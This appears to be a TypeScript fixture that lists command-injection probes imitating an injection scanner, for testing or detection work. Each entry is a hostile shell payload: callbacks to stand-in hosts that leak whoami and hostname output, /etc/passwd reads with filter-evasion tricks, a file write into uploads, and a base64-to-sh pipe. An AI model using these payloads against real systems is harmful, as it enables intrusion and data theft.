import { sh } from './hand';
import type { Hand } from './hand';

/** The questions that tools for finding command injection ask: arithmetic, delays, call-backs and harmless words. */
export const scannerA: Hand = {
  name: 'scanner_a',
  commands: [
    sh('probe-arithmetic', 'T1190', 'echo VXQKZL$((41+37))$(echo VXQKZL)VXQKZL'),
    sh('probe-expr', 'T1190', 'expr 9123 + 11'),
    sh('probe-sleep', 'T1190', 'sleep 2'),
    sh('probe-ping-delay', 'T1190', 'ping -c 3 127.0.0.1'),
    sh(
      'probe-conditional-delay',
      'T1190',
      'str=$(echo VXQKZL);str1=${#str};if [ 6 -ne ${str1} ];then sleep 0;else sleep 1;fi'
    ),
    sh('probe-word', 'T1190', 'echo vulnerable'),
    sh('probe-hash', 'T1190', 'echo -n 68421|md5sum'),
    sh('probe-passwd', 'T1190', 'cat /etc/passwd'),
    sh('probe-nslookup', 'T1190', 'nslookup c7f3q1.oast.example'),
    sh('probe-nslookup-quoted', 'T1190', '$(nslookup -q=cname hit7lq2.oast.example)'),
    sh('probe-curl', 'T1190', 'curl http://203.0.113.66/`whoami`'),
    sh('probe-wget', 'T1190', 'wget -qO- http://203.0.113.66/a9k2?h=$(hostname)'),
    sh('probe-dig', 'T1190', 'dig +short $(whoami).x1.oast.example'),
    sh('probe-printf', 'T1190', 'printf "%d" 0x2f61'),
    sh('probe-ifs', 'T1190', 'cat${IFS}/etc/passwd'),
    sh('probe-quotes', 'T1190', "w'h'o'a'm'i"),
    sh('probe-backslash', 'T1190', 'c\\at /et\\c/pas\\swd'),
    sh('probe-brace', 'T1190', '/bin/bash -c "{cat,/etc/hosts}"'),
    sh('probe-variable', 'T1190', 'a=l;b=s;$a$b -la'),
    sh('probe-reverse', 'T1190', '$(rev<<<di 2>/dev/null || echo di|rev)'),
    sh('probe-file', 'T1190', 'echo 8c1d > {uploads}/8c1d.txt'),
    sh('probe-base64', 'T1190', 'echo aWQ7dW5hbWUgLWE=|base64 -d|sh'),
  ],
};
